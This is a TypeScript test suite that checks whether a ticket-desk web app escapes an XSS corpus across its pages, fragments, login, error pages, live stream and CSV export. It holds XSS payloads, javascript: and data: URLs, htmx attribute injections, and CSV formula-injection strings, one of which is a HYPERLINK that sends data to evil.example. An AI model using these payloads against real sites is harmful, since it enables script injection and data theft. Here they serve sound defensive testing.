/**
 * An XSS corpus through every text field a ticket has, then every page, fragment
 * and export that shows them: nothing may come back as markup, a script, an
 * event handler, an htmx attribute or a javascript: URL.
 *
 * Hono's JSX escapes & < > " and ', so a payload holding any of them must never
 * appear verbatim; payloads without them (`javascript:alert(1)`) are checked by
 * where they land instead (never the start of an href or src).
 */
import assert from "node:assert/strict";
import {
  addApiKey,
  addUser,
  bearer,
  type DeskApp,
  formPost,
  jsonRequest,
  logIn,
  withConfiguredApp,
} from "../fixtures.ts";
import type { SqliteStore } from "../../db/sqlite/sqlite_store.ts";
import { liveComposer } from "../../routes/live_render.tsx";
import type { StreamFilter } from "../../lib/live_filter.ts";

const PAYLOADS: readonly string[] = [
  "<script>alert(1)</script>",
  '"><img src=x onerror=alert(1)>',
  "' onmouseover='alert(1)",
  "<svg onload=alert(1)>",
  "<svg><script>alert(1)</script></svg>",
  "javascript:alert(1)",
  "</textarea><script>alert(1)</script>",
  "<iframe src=javascript:alert(1)>",
  "{{constructor.constructor('alert(1)')()}}",
  '<a href="x',
  "<!--",
  'hx-get="/logout"',
  'x" hx-get="/logout" hx-trigger="load" x="',
  '<hx-partial hx-target="body">pwned</hx-partial>',
  // A right-to-left mark, Arabic, zero-width and BOM characters around markup.
  // (Bidi overrides such as U+202E are refused in one-line fields: see
  // tests/routes/text_rules_test.ts.)
  "\u200Fgpj.exe <b>\u0645\u0631\u062D\u0628\u0627</b>\u200B\uFEFF \u{1F44B}",
  // (The search's own hit markers, U+E000/U+E001, are refused as input: see
  // tests/routes/text_rules_test.ts.)
  // Already escaped: must be escaped again (&amp;lt;), never passed through.
  "&lt;i&gt;already escaped&lt;/i&gt;",
];

const HX = { "HX-Request": "true", "HX-Request-Type": "partial" };
const HTML = "text/html; charset=UTF-8";

/** What Hono's JSX makes of text. */
function escapeHtml(s: string): string {
  return s.replaceAll("&", "&amp;").replaceAll("<", "&lt;")
    .replaceAll(">", "&gt;").replaceAll('"', "&quot;").replaceAll("'", "&#39;");
}

function unescapeHtml(s: string): string {
  return s.replace(
    /&#(x?)([0-9a-f]+);/gi,
    (_, hex, n) => String.fromCodePoint(parseInt(n, hex ? 16 : 10)),
  )
    .replaceAll("&quot;", '"').replaceAll("&lt;", "<").replaceAll("&gt;", ">")
    .replaceAll("&amp;", "&");
}

/** Elements user text must never become (the app renders none of them itself). */
const FORBIDDEN_TAGS = new Set([
  "img",
  "svg",
  "iframe",
  "object",
  "embed",
  "frame",
  "frameset",
  "math",
  "base",
  "style",
  "hx-partial",
  "template",
]);
const URL_ATTRIBUTES = /^(href|src|action|formaction|xlink:href|hx-[a-z:]+)$/;

/** Every start tag: its name and attributes (values unescaped). */
function tags(html: string) {
  const out: { name: string; attrs: [string, string][]; raw: string }[] = [];
  // Attribute values never hold a raw > (JSX escapes it), so [^>]* ends the tag.
  for (const m of html.matchAll(/<([a-zA-Z][\w:-]*)([^>]*)>/g)) {
    const attrs: [string, string][] = [];
    for (
      const a of m[2]!.matchAll(
        /([^\s"'=<>/]+)(?:\s*=\s*(?:"([^"]*)"|'([^']*)'|([^\s"'=<>`]+)))?/g,
      )
    ) {
      attrs.push([
        a[1]!.toLowerCase(),
        unescapeHtml(a[2] ?? a[3] ?? a[4] ?? ""),
      ]);
    }
    out.push({ name: m[1]!.toLowerCase(), attrs, raw: m[0] });
  }
  return out;
}

/** Asserts that no payload came back as markup anywhere in `html`. */
function assertInert(html: string, where: string): void {
  for (const p of PAYLOADS) {
    if (/[&<>"']/.test(p)) {
      const at = html.indexOf(p);
      assert.ok(
        at < 0,
        `${where}: payload ${JSON.stringify(p)} appears unescaped: …${
          html.slice(Math.max(0, at - 80), at + p.length + 40)
        }…`,
      );
    }
  }
  assert.ok(!html.includes("<!--"), `${where}: an HTML comment was opened`);
  for (const t of tags(html)) {
    const bad = (why: string) => `${where}: ${why} in ${t.raw}`;
    assert.ok(!FORBIDDEN_TAGS.has(t.name), bad(`a <${t.name}> element`));
    if (t.name === "script") {
      const src = t.attrs.find(([k]) => k === "src")?.[1] ?? "";
      assert.match(src, /^\/static\/[\w.-]+\.js$/, bad("a script"));
    }
    for (const [name, value] of t.attrs) {
      assert.ok(!name.startsWith("on"), bad(`an event handler ${name}`));
      if (URL_ATTRIBUTES.test(name)) {
        assert.doesNotMatch(
          value,
          /^\s*(javascript|data|vbscript):/i,
          bad(`a script URL in ${name}`),
        );
      }
      if (name.startsWith("hx-")) {
        assert.ok(!value.includes("/logout"), bad(`${name} to /logout`));
      }
      if (name === "hx-target") {
        assert.notEqual(value, "body", bad("hx-target=body"));
      }
    }
  }
}

/** Asserts that every payload is shown, escaped (the fields were rendered at all). */
function assertShown(html: string, where: string, payloads = PAYLOADS): void {
  for (const p of payloads) {
    assert.ok(
      html.includes(escapeHtml(p)),
      `${where}: payload ${JSON.stringify(p)} is not shown (escaped)`,
    );
  }
}

async function htmlOf(
  res: Response,
  status: number,
  where: string,
): Promise<string> {
  const text = await res.text();
  assert.equal(res.status, status, `${where}: ${text.slice(0, 500)}`);
  assert.equal(res.headers.get("content-type"), HTML, where);
  return text;
}

/** A signed-in admin sending requests as a browser would (session cookie, Origin). */
interface Session {
  get(path: string, headers?: Record<string, string>): Promise<Response>;
  post(
    path: string,
    fields: Record<string, string>,
    headers?: Record<string, string>,
  ): Promise<Response>;
}

interface Seeded {
  app: DeskApp;
  store: SqliteStore;
  admin: Session;
  key: string;
  /** Per payload: a ticket filled through the API and one through the dashboard's forms. */
  tickets: { payload: string; api: number; forms: number }[];
}

async function post(app: DeskApp, key: string, path: string, body: unknown) {
  const res = await app.request(
    path,
    jsonRequest(body, { headers: bearer(key) }),
  );
  const text = await res.text();
  assert.ok(res.status === 201 || res.status === 200, `${path}: ${text}`);
  return JSON.parse(text);
}

/** Seeds two tickets per payload, the payload in every field, and signs an admin in. */
async function withPayloadTickets(
  fn: (s: Seeded) => Promise<void>,
): Promise<void> {
  await withConfiguredApp({}, async ({ app, store }) => {
    await addUser(store, "alice", { role: "admin" });
    const cookie = await logIn(app, "alice");
    const admin: Session = {
      get: async (path, headers = {}) =>
        await app.request(path, { headers: { Cookie: cookie, ...headers } }),
      post: async (path, fields, headers = {}) =>
        await app.request(path, formPost(fields, { cookie, headers })),
    };
    const key = await addApiKey(store, "mobile");
    const tickets: Seeded["tickets"] = [];
    for (const payload of PAYLOADS) {
      // Through the API: every field, other_ids as a string.
      const api = await post(app, key, "/api/v1/tickets", {
        user_id: payload,
        pdf_link: "https://example.com/guide.pdf",
        product_id: payload,
        other_ids: payload,
      });
      const patched = await app.request(
        `/api/v1/tickets/${api.id}`,
        jsonRequest({ description: payload }, {
          method: "PATCH",
          headers: bearer(key),
        }),
      );
      assert.equal(patched.status, 200, await patched.text());
      await post(app, key, `/api/v1/tickets/${api.id}/comments`, {
        body: payload,
        author: payload,
      });

      // Through the dashboard's own forms; other_ids as an array.
      const forms = await post(app, key, "/api/v1/tickets", {
        user_id: payload,
        pdf_link: "https://example.com/guide.pdf",
        product_id: payload,
        other_ids: [payload, "ORDER-1"],
      });
      const saved = await admin.post(`/tickets/${forms.id}/description`, {
        description: payload,
        version: String(forms.version),
        seen: "",
      }, HX);
      assertInert(
        await htmlOf(saved, 200, "description POST"),
        `POST description fragment (${JSON.stringify(payload)})`,
      );
      const commented = await admin.post(`/tickets/${forms.id}/comments`, {
        body: payload,
      }, HX);
      const thread = await htmlOf(commented, 200, "comment POST");
      assertInert(thread, `POST comment fragment (${JSON.stringify(payload)})`);
      tickets.push({ payload, api: api.id, forms: forms.id });
    }
    await fn({ app, store, admin, key, tickets });
  });
}

Deno.test(
  "every payload in every ticket field is shown escaped on the dashboard, its fragment and its next page",
  () =>
    withPayloadTickets(async ({ admin, tickets }) => {
      const page = await htmlOf(
        await admin.get("/dashboard"),
        200,
        "dashboard",
      );
      assertInert(page, "GET /dashboard");
      assertShown(page, "GET /dashboard");
      // The products datalist shows product ids: escaped as well.
      assert.match(page, /<datalist id="product-list">/);

      const board = await htmlOf(
        await admin.get("/dashboard", HX),
        200,
        "board",
      );
      assert.match(board, /^<section id="board"/);
      assertInert(board, "GET /dashboard (HX board fragment)");
      assertShown(board, "GET /dashboard (HX board fragment)");

      const cards = await htmlOf(
        await admin.get("/dashboard/cards"),
        200,
        "cards",
      );
      assertInert(cards, "GET /dashboard/cards");
      const older = await htmlOf(
        await admin.get(`/dashboard/cards?after=${tickets.at(-1)!.forms}`),
        200,
        "cards before",
      );
      assertInert(older, "GET /dashboard/cards?after=");
      for (const status of ["Open", "Pending", "Closed"]) {
        assertInert(
          await htmlOf(
            await admin.get(`/dashboard?status=${status}`),
            200,
            status,
          ),
          `GET /dashboard?status=${status}`,
        );
      }
    }),
);

Deno.test(
  "a search for each payload echoes it escaped in the title, the box, the links, the highlights and the empty state",
  () =>
    withPayloadTickets(async ({ admin }) => {
      const queries = [
        ...PAYLOADS,
        "alert script",
        "onerror img",
        "pwned",
        "marked",
      ];
      for (const q of queries) {
        const qs = new URLSearchParams({ q });
        const where = `?q=${JSON.stringify(q)}`;
        const full = await admin.get(`/dashboard?${qs}`);
        assertInert(await htmlOf(full, 200, where), `GET /dashboard${where}`);
        const typed = await admin.get(`/dashboard?${qs}&live=1`, HX);
        assertInert(
          await htmlOf(typed, 200, where),
          `GET /dashboard${where} (HX, typing)`,
        );
        const pushed = typed.headers.get("hx-replace-url") ?? "";
        assert.doesNotMatch(pushed, /[<>"' ]/, `HX-Replace-Url ${pushed}`);
        const cards = await admin.get(`/dashboard/cards?${qs}`, HX);
        assertInert(
          await htmlOf(cards, 200, where),
          `GET /dashboard/cards${where}`,
        );
        const product = await admin.get(
          `/dashboard?${new URLSearchParams({ product: q })}`,
        );
        assertInert(
          await htmlOf(product, 200, where),
          `GET /dashboard?product=${JSON.stringify(q)}`,
        );
      }
      // A search that matches shows the hits highlighted, still escaped.
      const hit = await htmlOf(
        await admin.get("/dashboard?q=alert"),
        200,
        "q=alert",
      );
      assert.match(hit, /<mark>alert<\/mark>/);
      assert.match(
        hit,
        /&lt;script&gt;<mark>alert<\/mark>\(1\)&lt;\/script&gt;/,
      );
      // The comment excerpt (MarkedExcerpt) of a search hit in comments only.
      const inComments = await htmlOf(
        await admin.get("/dashboard?q=pwned"),
        200,
        "q=pwned",
      );
      assertInert(inComments, "GET /dashboard?q=pwned");
      assert.match(inComments, /<mark>pwned<\/mark>/);
    }),
);

Deno.test(
  "the ticket page, its editor, fragments and quick status answers show every payload escaped",
  () =>
    withPayloadTickets(async ({ admin, tickets }) => {
      for (const { payload, api, forms } of tickets) {
        const label = JSON.stringify(payload);
        for (const id of [api, forms]) {
          const page = await htmlOf(
            await admin.get(`/tickets/${id}`),
            200,
            `ticket ${id}`,
          );
          assertInert(page, `GET /tickets/${id} (${label})`);
          assertShown(page, `GET /tickets/${id}`, [payload]);
          const editing = await htmlOf(
            await admin.get(`/tickets/${id}?edit=description`),
            200,
            "edit",
          );
          assertInert(
            editing,
            `GET /tickets/${id}?edit=description (${label})`,
          );
          for (const path of ["description", "description/edit"]) {
            const fragment = await htmlOf(
              await admin.get(`/tickets/${id}/${path}`, HX),
              200,
              path,
            );
            assertInert(fragment, `GET /tickets/${id}/${path} (${label})`);
          }
          for (const view of ["card", "page"]) {
            const current = await admin.get(`/tickets/${id}`).then((r) =>
              r.text()
            );
            const version = /name="version" value="(\d+)"/.exec(current)![1]!;
            const res = await admin.post(`/tickets/${id}/status`, {
              status: "Pending",
              version,
              seen: "Open",
              view,
            }, HX);
            const body = await res.text();
            assert.ok(res.status === 200 || res.status === 409, body);
            assertInert(body, `POST /tickets/${id}/status view=${view}`);
          }
        }
        // A stale save shows both texts side by side: both escaped.
        const conflict = await admin.post(`/tickets/${api}/description`, {
          description: `${payload} mine`,
          version: "1",
          seen: "something else",
        }, HX);
        const both = await htmlOf(conflict, 409, "conflict");
        assertInert(both, `POST description conflict (${label})`);
        assert.match(both, /Not saved/);
        // An over-long comment comes back in the box as the draft, escaped.
        const long = await admin.post(`/tickets/${api}/comments`, {
          body: `${payload} ${"x".repeat(10_001)}`,
        }, HX);
        assertInert(
          await htmlOf(long, 422, "long comment"),
          `POST comment draft (${label})`,
        );
        // The same refusal without htmx re-renders the whole page.
        const longPage = await admin.post(`/tickets/${api}/comments`, {
          body: `${payload} ${"x".repeat(10_001)}`,
        });
        assertInert(
          await htmlOf(longPage, 422, "long comment page"),
          `POST comment draft, no htmx (${label})`,
        );
      }
    }),
);

Deno.test(
  "a ?back= URL carrying a payload stays a /dashboard link, escaped",
  () =>
    withPayloadTickets(async ({ admin, tickets }) => {
      const id = tickets[0]!.api;
      for (const p of PAYLOADS) {
        const back = `/dashboard?q=${p}`;
        const res = await admin.get(
          `/tickets/${id}?${new URLSearchParams({ back })}`,
        );
        const page = await htmlOf(res, 200, "back");
        assertInert(page, `GET /tickets/${id}?back=${JSON.stringify(back)}`);
        const href = /<a href="([^"]*)" id="back-link">/.exec(page)?.[1];
        assert.ok(href?.startsWith("/dashboard"), `back link ${href}`);
        const referred = await admin.get(`/tickets/${id}`, {
          Referer: `http://localhost/dashboard?q=${encodeURIComponent(p)}`,
        });
        assertInert(
          await htmlOf(referred, 200, "referer"),
          `GET /tickets/${id} with a Referer holding ${JSON.stringify(p)}`,
        );
      }
    }),
);

Deno.test(
  "pdf_link refuses javascript: and data: URLs and renders odd http URLs escaped with a safe rel",
  () =>
    withPayloadTickets(async ({ app, admin, key }) => {
      for (
        const link of [
          "javascript:alert(1)",
          "JaVaScRiPt:alert(1)",
          " javascript:alert(1)",
          "javascript://example.com/%0aalert(1)",
          "data:text/html,<script>alert(1)</script>",
          "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
          "vbscript:msgbox(1)",
          "java\tscript:alert(1)",
          "//example.com/x.pdf",
          "/relative.pdf",
        ]
      ) {
        for (const path of ["/api/v1/tickets", "/create_ticket"]) {
          const res = await app.request(
            path,
            jsonRequest({ user_id: "u", pdf_link: link }, {
              headers: bearer(key),
            }),
          );
          const text = await res.text();
          assert.equal(
            res.status,
            422,
            `${path} ${JSON.stringify(link)}: ${text}`,
          );
          assert.equal(
            res.headers.get("content-type"),
            "application/problem+json",
          );
          assert.match(text, /"field":"pdf_link"/);
        }
      }
      const odd = [
        `https://example.com/a"onmouseover='alert(1)'<b>.pdf`,
        `https://example.com/?x="><img src=x onerror=alert(1)>`,
        `http://example.com/<script>alert(1)</script>`,
        `https://example.com/' onfocus='alert(1)' autofocus '`,
      ];
      for (const link of odd) {
        const created = await post(app, key, "/api/v1/tickets", {
          user_id: "links",
          pdf_link: link,
        });
        for (
          const [path, headers] of [
            [`/tickets/${created.id}`, {}],
            ["/dashboard", {}],
            ["/dashboard", HX],
          ] as const
        ) {
          const page = await htmlOf(
            await admin.get(path, headers),
            200,
            path,
          );
          assertInert(
            page,
            `GET ${path} with pdf_link ${JSON.stringify(link)}`,
          );
          assert.ok(!page.includes(link), `${path}: the link is escaped`);
          const anchors = tags(page).filter((t) =>
            t.name === "a" &&
            t.attrs.some(([k, v]) => k === "href" && v === link)
          );
          assert.ok(anchors.length >= 1, `${path}: a link to ${link}`);
          for (const a of anchors) {
            assert.deepEqual(
              a.attrs.filter(([k]) => k !== "href"),
              [["target", "_blank"], ["rel", "noopener noreferrer nofollow"]],
              a.raw,
            );
            assert.ok(a.raw.includes(`href="${escapeHtml(link)}"`), a.raw);
          }
        }
      }
    }),
);

/** Parses RFC 4180 CSV: quoted cells may hold commas, quotes and line breaks. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = "";
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const ch = text[i]!;
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (ch === '"') quoted = false;
      else cell += ch;
    } else if (ch === '"') quoted = true;
    else if (ch === ",") {
      row.push(cell);
      cell = "";
    } else if (ch === "\r" && text[i + 1] === "\n") {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = "";
      i++;
    } else cell += ch;
  }
  assert.equal(quoted, false, "the CSV ends outside a quoted cell");
  assert.equal(cell + row.join(""), "", "the CSV ends with CRLF");
  return rows;
}

Deno.test(
  "GET /tickets.csv prefixes formula cells with ' and keeps every payload in its own cell",
  () =>
    withPayloadTickets(async ({ app, admin, key }) => {
      const formulas = [
        "=cmd|' /C calc'!A0",
        "+1+1",
        "-2+3",
        "@SUM(1,2)",
        '=HYPERLINK("http://evil.example/?"&A1,"click")',
      ];
      for (const f of formulas) {
        const t = await post(app, key, "/api/v1/tickets", {
          user_id: f,
          pdf_link: "https://example.com/guide.pdf",
          product_id: f,
          other_ids: [f, f],
        });
        const res = await app.request(
          `/api/v1/tickets/${t.id}`,
          jsonRequest({ description: `\t${f}\n${f}` }, {
            method: "PATCH",
            headers: bearer(key),
          }),
        );
        assert.equal(res.status, 200, await res.text());
      }
      const res = await admin.get("/tickets.csv");
      assert.equal(res.status, 200);
      assert.equal(res.headers.get("content-type"), "text/csv; charset=utf-8");
      assert.match(
        res.headers.get("content-disposition") ?? "",
        /^attachment; filename="tickets-\d{4}-\d{2}-\d{2}\.csv"$/,
      );
      const rows = parseCsv(await res.text());
      const header = rows[0]!;
      assert.equal(header.length, 12);
      const data = rows.slice(1);
      assert.equal(data.length, PAYLOADS.length * 2 + formulas.length);
      for (const row of data) {
        assert.equal(row.length, header.length, JSON.stringify(row));
        for (const cell of row) {
          assert.doesNotMatch(
            cell,
            /^[=+\-@\t\r]/,
            `a cell a spreadsheet would run: ${JSON.stringify(cell)}`,
          );
        }
      }
      const col = (name: string) => header.indexOf(name);
      const users = data.map((r) => r[col("user_id")]);
      for (const f of formulas) assert.ok(users.includes(`'${f}`), f);
      for (const p of PAYLOADS) assert.ok(users.includes(p), p);
      const others = data.map((r) => r[col("other_ids")]);
      assert.ok(others.includes(`'${formulas[0]}, ${formulas[0]}`));
      const descriptions = data.map((r) => r[col("description")]);
      assert.ok(descriptions.includes(`'\t${formulas[1]}\n${formulas[1]}`));
    }),
);

Deno.test(
  "settings echo refused user and key names escaped",
  () =>
    withPayloadTickets(async ({ admin }) => {
      for (const p of PAYLOADS) {
        const label = JSON.stringify(p);
        const key = await admin.post("/settings/keys", { name: p });
        const keyPage = await htmlOf(key, 422, `key ${label}`);
        assertInert(keyPage, `POST /settings/keys name=${label}`);
        assert.match(keyPage, /id="key-name-error"/);
        const user = await admin.post("/settings/users", {
          username: p,
          role: "agent",
          password: "a long enough password",
        });
        const userPage = await htmlOf(user, 422, `user ${label}`);
        assertInert(userPage, `POST /settings/users username=${label}`);
        assert.match(userPage, /id="user-username-error"/);
        const role = await admin.post("/settings/users", {
          username: "bob",
          role: p,
          password: "a long enough password",
        });
        assertInert(
          await htmlOf(role, 422, `role ${label}`),
          `POST /settings/users role=${label}`,
        );
        for (
          const path of [
            `/settings/users/${encodeURIComponent(p)}/disable`,
            `/settings/keys/${encodeURIComponent(p)}/revoke`,
          ]
        ) {
          const res = await admin.post(path, {});
          const text = await res.text();
          if (res.headers.get("content-type") === HTML) {
            assertInert(text, `POST ${path}`);
          }
        }
      }
      assertInert(
        await htmlOf(await admin.get("/settings"), 200, "settings"),
        "GET /settings",
      );
    }),
);

Deno.test(
  "the login page echoes a username and ?next= escaped",
  () =>
    withConfiguredApp({ loginRateLimit: 1000 }, async ({ app }) => {
      for (const p of PAYLOADS) {
        const label = JSON.stringify(p);
        const failed = await app.request(
          "/login",
          formPost({ username: p, password: "wrong password", next: `/${p}` }),
        );
        const page = await htmlOf(failed, 401, `login ${label}`);
        assertInert(page, `POST /login username=${label}`);
        if (!/^\s|\s$/.test(p)) assertShown(page, "POST /login", [p]);
        const form = await app.request(
          `/login?${new URLSearchParams({ next: `/dashboard?q=${p}` })}`,
        );
        assertInert(
          await htmlOf(form, 200, `next ${label}`),
          `GET /login?next=${label}`,
        );
        // Signed out, a dashboard URL sends the browser to /login with it as ?next=.
        const away = await app.request(
          `/dashboard?${new URLSearchParams({ q: p })}`,
        );
        assert.ok([302, 303].includes(away.status), String(away.status));
        const to = away.headers.get("location") ?? "";
        assert.match(to, /^\/login\?next=/);
        assertInert(
          await htmlOf(await app.request(to), 200, `redirect ${label}`),
          `GET ${to}`,
        );
      }
    }),
);

Deno.test(
  "404 and error pages echo the path and query escaped, as pages and as htmx notices",
  () =>
    withPayloadTickets(async ({ admin }) => {
      for (const p of PAYLOADS) {
        const label = JSON.stringify(p);
        const e = encodeURIComponent(p);
        for (
          const [path, status] of [
            [`/${e}`, 404],
            [`/dashboard/${e}`, 404],
            [`/tickets/${e}`, 404],
            [`/tickets/${e}/description`, 404],
            [`/nothing?x=${e}`, 404],
            [`/tickets/999999?back=${e}`, 404],
          ] as const
        ) {
          for (const headers of [{}, HX]) {
            const res = await admin.get(path, headers);
            const text = await htmlOf(res, status, `${path} ${label}`);
            assertInert(
              text,
              `GET ${path}${headers === HX ? " (HX)" : ""} with ${label}`,
            );
          }
        }
        const raw = await admin.get(`/x/${p.replaceAll("#", "%23")}`);
        assertInert(await raw.text(), `GET /x/${label} (unencoded)`);
        const invalid = await admin.post("/tickets/1/status", {
          status: p,
          version: "1",
        }, HX);
        assertInert(
          await htmlOf(invalid, 422, `status ${label}`),
          `POST /tickets/1/status status=${label}`,
        );
      }
    }),
);

/** The wrappers the live stream itself puts around what it sends. */
const OWN_PARTIAL =
  /<hx-partial hx-target="(\.status-tabs|#incoming|#ticket-\d+|#ticket-\d+:not\(\.moved\)|#live-notes)" hx-swap="(outerHTML|afterbegin|beforeend)">/g;

Deno.test(
  "the live stream sends every payload escaped, inside only its own <hx-partial>s",
  () =>
    withPayloadTickets(async ({ store, tickets }) => {
      const composer = liveComposer(store);
      const events = await store.eventsAfter(0, 10_000);
      assert.ok(events.length >= PAYLOADS.length * 5, "events were recorded");
      const shared = await composer.prepare(events);
      const filters: StreamFilter[] = [
        {},
        { q: "alert" },
        { status: "Open" },
        ...PAYLOADS.map((q) => ({ q })),
        ...PAYLOADS.map((product_id) => ({ product_id })),
      ];
      for (const f of filters) {
        const msgs = await composer.compose(shared, f, events);
        events.forEach((e, i) => {
          const msg = msgs[i];
          if (!msg) return;
          const own = msg.data.match(OWN_PARTIAL)?.length ?? 0;
          assert.equal(
            own,
            msg.data.split("<hx-partial").length - 1,
            `event ${e.id}: only the stream's own partials`,
          );
          assertInert(
            msg.data.replace(OWN_PARTIAL, ""),
            `live message for event ${e.id} (${e.type}) with ${
              JSON.stringify(f)
            }`,
          );
        });
      }
      for (const e of events) {
        const [onPage] = await composer.compose(
          shared,
          { ticket: e.ticket_id },
          [e],
        );
        assert.ok(onPage, `event ${e.id} reaches its ticket page`);
        assert.equal(onPage.event, "ticket-changed");
        const change = JSON.parse(onPage.data);
        assert.equal(typeof change.text, "string");
      }
      assert.ok(tickets.length > 0);
    }),
);
